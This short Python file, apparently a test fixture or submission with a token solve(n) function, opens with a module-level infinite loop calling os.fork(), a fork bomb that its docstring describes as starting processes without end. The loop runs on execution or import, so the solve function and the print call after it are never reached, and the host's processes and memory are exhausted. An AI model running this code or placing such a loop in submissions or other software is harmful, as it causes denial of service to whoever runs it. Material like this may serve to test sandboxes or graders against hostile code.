"""Starts processes without end."""

import os

found = "forked"
while True:
    os.fork()


def solve(n):
    return found


print(found)
